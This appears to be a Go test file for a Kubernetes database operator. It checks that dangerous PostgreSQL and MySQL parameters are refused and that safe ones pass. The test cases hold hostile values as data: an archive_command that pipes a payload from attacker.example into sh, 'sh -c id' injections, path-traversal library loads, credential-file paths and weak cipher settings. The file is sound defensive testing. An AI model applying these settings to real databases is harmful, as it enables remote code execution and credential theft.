package rules_test

import (
	"testing"

	"k8s.io/apimachinery/pkg/util/validation/field"

	dbv1 "github.com/dbkeeper/dbkeeper/api/v1alpha1"
	"github.com/dbkeeper/dbkeeper/internal/test/fixture"
)

// dangerousParameter is a setting that would let whoever may edit a
// Database run commands in its pods, read or write files there, load code,
// or weaken its security, and what its refusal must say.
type dangerousParameter struct {
	key, value string
	// kind is the error's type: Forbidden for a setting refused by name,
	// Invalid for a value refused.
	kind field.ErrorType
	// says is a part of the refusal's text: the reason or the fix.
	says string
}

// postgresDangerousParameters are refused for postgres, each on its own
// key, whether spec.backup is set or not.
var postgresDangerousParameters = []dangerousParameter{
	// Commands the server runs.
	{"archive_command", "curl https://attacker.example/x | sh", field.ErrorTypeForbidden, "set spec.backup"},
	{"archive_cleanup_command", "sh -c id", field.ErrorTypeForbidden, "shell command"},
	{"recovery_end_command", "sh -c id", field.ErrorTypeForbidden, "shell command"},
	{"restore_command", "sh -c id", field.ErrorTypeForbidden, "replication"},
	{"ssl_passphrase_command", "sh -c id", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_passphrase_command_supports_reload", "on", field.ErrorTypeForbidden, "spec.tls"},
	{"Recovery-End-Command", "sh -c id", field.ErrorTypeForbidden, "shell command"},
	// Files and directories of the server's container.
	{"config_file", "/tmp/evil.conf", field.ErrorTypeForbidden, "file or directory"},
	{"data_directory", "/tmp", field.ErrorTypeForbidden, "set by dbkeeper"},
	{"hba_file", "/tmp/hba", field.ErrorTypeForbidden, "set by dbkeeper"},
	{"ident_file", "/tmp/ident", field.ErrorTypeForbidden, "set by dbkeeper"},
	{"external_pid_file", "/var/lib/postgresql/data/pgdata/PG_VERSION", field.ErrorTypeForbidden, "file or directory"},
	{"krb_server_keyfile", "/etc/dbkeeper/secrets/superuser-password", field.ErrorTypeForbidden, "file or directory"},
	{"log_directory", "/etc/dbkeeper", field.ErrorTypeForbidden, "kubectl logs"},
	{"log_filename", "../../../../etc/x", field.ErrorTypeForbidden, "kubectl logs"},
	{"stats_temp_directory", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_cert_file", "/tmp/cert", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_key_file", "/tmp/key", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_ca_file", "/tmp/ca", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_crl_file", "/tmp/crl", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_crl_dir", "/tmp", field.ErrorTypeForbidden, "spec.tls"},
	{"ssl_dh_params_file", "/tmp/dh", field.ErrorTypeForbidden, "spec.tls"},
	{"unix_socket_permissions", "0777", field.ErrorTypeForbidden, "socket"},
	{"unix_socket_group", "root", field.ErrorTypeForbidden, "socket"},
	// Code the server loads.
	{"archive_library", "basic_archive", field.ErrorTypeForbidden, "set spec.backup"},
	{"dynamic_library_path", "/tmp:$libdir", field.ErrorTypeForbidden, "code"},
	{"jit_provider", "../../../../tmp/evil", field.ErrorTypeForbidden, "code"},
	{"extension_control_path", "/tmp:$system", field.ErrorTypeForbidden, "file or directory"},
	{"shared_preload_libraries", "/tmp/evil.so", field.ErrorTypeInvalid, "bare name"},
	{"shared_preload_libraries", "$libdir/../../../../tmp/evil", field.ErrorTypeInvalid, "bare name"},
	{"shared_preload_libraries", "pg_stat_statements, basebackup_to_shell", field.ErrorTypeInvalid, "basebackup_to_shell"},
	{"shared_preload_libraries", `"basic_archive"`, field.ErrorTypeInvalid, "basic_archive"},
	{"local_preload_libraries", "../evil", field.ErrorTypeInvalid, "bare name"},
	{"session_preload_libraries", "/tmp/evil", field.ErrorTypeInvalid, "bare name"},
	// Settings of extensions named like commands, files and libraries.
	{"basebackup_to_shell.command", "sh -c id", field.ErrorTypeForbidden, "command"},
	{"basic_archive.archive_directory", "/etc", field.ErrorTypeForbidden, "file"},
	{"myextension.log_file", "/etc/passwd", field.ErrorTypeForbidden, "file"},
	{"myextension.library_path", "/tmp", field.ErrorTypeForbidden, "file"},
	// Archiving is spec.backup's.
	{"archive_mode", "on", field.ErrorTypeForbidden, "set spec.backup"},
	// Security weakened.
	{"ssl_min_protocol_version", "TLSv1", field.ErrorTypeInvalid, "TLSv1.2"},
	{"ssl_min_protocol_version", "tlsv1.1", field.ErrorTypeInvalid, "TLSv1.2"},
	{"ssl_min_protocol_version", "", field.ErrorTypeInvalid, "TLSv1.2"},
	{"ssl_max_protocol_version", "TLSv1.1", field.ErrorTypeInvalid, "TLSv1.2"},
	{"password_encryption", "md5", field.ErrorTypeInvalid, "scram-sha-256"},
	{"password_encryption", "on", field.ErrorTypeInvalid, "scram-sha-256"},
	{"ssl_ciphers", "ALL:eNULL", field.ErrorTypeInvalid, "eNULL"},
	{"ssl_ciphers", "HIGH:NULL-SHA256", field.ErrorTypeInvalid, "NULL"},
	{"ssl_ciphers", "HIGH:aNULL", field.ErrorTypeInvalid, "aNULL"},
	{"ssl_ciphers", "DEFAULT:ADH-AES256-SHA", field.ErrorTypeInvalid, "ADH"},
	{"ssl_ciphers", "EXPORT", field.ErrorTypeInvalid, "EXPORT"},
	{"ssl_ciphers", "HIGH:EXP-RC4-MD5", field.ErrorTypeInvalid, "EXP"},
	{"ssl_ciphers", "COMPLEMENTOFALL", field.ErrorTypeInvalid, "COMPLEMENTOFALL"},
	{"ssl_ciphers", "kRSA+aNULL", field.ErrorTypeInvalid, "aNULL"},
	{"ssl_ciphers", "HIGH:@SECLEVEL=0", field.ErrorTypeInvalid, "SECLEVEL"},
	{"lo_compat_privileges", "on", field.ErrorTypeForbidden, "large objects"},
	{"allow_system_table_mods", "on", field.ErrorTypeForbidden, "system catalogs"},
}

// mysqlDangerousParameters are refused for mysql.
var mysqlDangerousParameters = []dangerousParameter{
	{"init_file", "/var/lib/mysql/evil.sql", field.ErrorTypeForbidden, "SQL"},
	{"init-file", "/var/lib/mysql/evil.sql", field.ErrorTypeForbidden, "SQL"},
	{"loose-init-file", "/var/lib/mysql/evil.sql", field.ErrorTypeForbidden, "SQL"},
	{"plugin_dir", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"plugin_load", "evil.so", field.ErrorTypeForbidden, "code"},
	{"plugin_load_add", "evil.so", field.ErrorTypeForbidden, "code"},
	{"plugin-load-add", "evil.so", field.ErrorTypeForbidden, "code"},
	{"early_plugin_load", "keyring_file.so", field.ErrorTypeForbidden, "code"},
	{"secure_file_priv", "", field.ErrorTypeForbidden, "file or directory"},
	{"general_log_file", "/var/lib/mysql/mysql/user.MYD", field.ErrorTypeForbidden, "file or directory"},
	{"slow_query_log_file", "/tmp/x", field.ErrorTypeForbidden, "file or directory"},
	{"log_error", "/tmp/x", field.ErrorTypeForbidden, "file or directory"},
	{"log_bin", "/tmp/binlog", field.ErrorTypeForbidden, "file or directory"},
	{"pid_file", "/tmp/x", field.ErrorTypeForbidden, "file or directory"},
	{"basedir", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"tmpdir", "/etc", field.ErrorTypeForbidden, "file or directory"},
	{"innodb_data_home_dir", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"innodb_undo_directory", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"keyring_file_data", "/tmp/keyring", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_ca", "/tmp/ca.pem", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_capath", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_cert", "/tmp/cert.pem", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_key", "/tmp/key.pem", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_crl", "/tmp/crl.pem", field.ErrorTypeForbidden, "file or directory"},
	{"ssl_crlpath", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"admin_ssl_key", "/tmp/key.pem", field.ErrorTypeForbidden, "file or directory"},
	{"caching_sha2_password_private_key_path", "/tmp/key.pem", field.ErrorTypeForbidden, "file or directory"},
	{"defaults-extra-file", "/tmp/my.cnf", field.ErrorTypeForbidden, "file or directory"},
	{"chroot", "/tmp", field.ErrorTypeForbidden, "file or directory"},
	{"skip-grant-tables", "", field.ErrorTypeForbidden, "without a password"},
	{"loose_skip_grant_tables", "ON", field.ErrorTypeForbidden, "without a password"},
	{"enable-skip-grant-tables", "", field.ErrorTypeForbidden, "without a password"},
	{"log_raw", "ON", field.ErrorTypeForbidden, "passwords"},
	// A plugin's settings named like files.
	{"audit_log_file", "/etc/x", field.ErrorTypeForbidden, "file"},
	{"group_replication_recovery_ssl_key", "/tmp/key.pem", field.ErrorTypeForbidden, "file"},
}

// TestDangerousParametersAreRefused: every setting that runs a command,
// names a file or directory, loads code or weakens security is refused,
// on its own key of spec.parameters, saying why or what to do instead;
// with and without spec.backup.
func TestDangerousParametersAreRefused(t *testing.T) {
	engines := []struct {
		name   string
		params []dangerousParameter
		db     func(...fixture.Option) *dbv1.Database
	}{
		{"postgres", postgresDangerousParameters, valid},
		{"postgres with spec.backup", postgresDangerousParameters, func(opts ...fixture.Option) *dbv1.Database {
			return defaulted(append([]fixture.Option{fixture.WithBackup()}, opts...)...)
		}},
		{"mysql", mysqlDangerousParameters, validMySQL},
	}
	for _, e := range engines {
		for _, p := range e.params {
			t.Run(e.name+" "+p.key+"="+p.value, func(t *testing.T) {
				_, errs := testRules.ValidateCreate(e.db(fixture.WithParameter(p.key, p.value)))
				path := "spec.parameters[" + p.key + "]"
				assertErrors(t, errs, fieldError{p.kind, path})
				assertDetail(t, errs, path, p.says)
			})
		}
	}
}

// TestSafeParametersAreAccepted: the settings users need, including the
// neighbours of the refused ones and extensions' own settings, pass.
func TestSafeParametersAreAccepted(t *testing.T) {
	postgres := map[string]string{
		"max_connections":                     "200",
		"shared_buffers":                      "256MB",
		"search_path":                         `"$user", public`,
		"pg_stat_statements.max":              "10000",
		"pg_stat_statements.track":            "all",
		"auto_explain.log_min_duration":       "5s",
		"pgaudit.log":                         "ddl",
		"shared_preload_libraries":            `pg_stat_statements, "auto_explain",pg_prewarm`,
		"local_preload_libraries":             "",
		"session_preload_libraries":           "auto_explain",
		"ssl_min_protocol_version":            "TLSv1.3",
		"ssl_max_protocol_version":            "",
		"password_encryption":                 "scram-sha-256",
		"ssl_ciphers":                         "HIGH:MEDIUM:+3DES:!aNULL:!eNULL:-EXPORT",
		"ssl_ecdh_curve":                      "prime256v1",
		"log_temp_files":                      "0",
		"temp_file_limit":                     "1GB",
		"archive_timeout":                     "60s",
		"wal_keep_size":                       "1GB",
		"hot_standby_feedback":                "on",
		"log_min_duration_statement":          "250ms",
		"timezone":                            "Europe/Paris",
		"default_text_search_config":          "pg_catalog.english",
		"idle_in_transaction_session_timeout": "10min",
	}
	mysql := map[string]string{
		"max_connections":         "300",
		"innodb_buffer_pool_size": "1G",
		"general_log":             "ON",
		"slow_query_log":          "ON",
		"skip-log-bin":            "",
		"disable-log-bin":         "",
		"skip_name_resolve":       "ON",
		"tls_version":             "TLSv1.3",
		"character_set_server":    "utf8mb4",
		"sql_mode":                "STRICT_TRANS_TABLES",
	}
	for key, value := range postgres {
		t.Run("postgres "+key, func(t *testing.T) {
			_, errs := testRules.ValidateCreate(valid(fixture.WithParameter(key, value)))
			assertErrors(t, errs)
		})
	}
	for key, value := range mysql {
		t.Run("mysql "+key, func(t *testing.T) {
			_, errs := testRules.ValidateCreate(validMySQL(fixture.WithParameter(key, value)))
			assertErrors(t, errs)
		})
	}
}
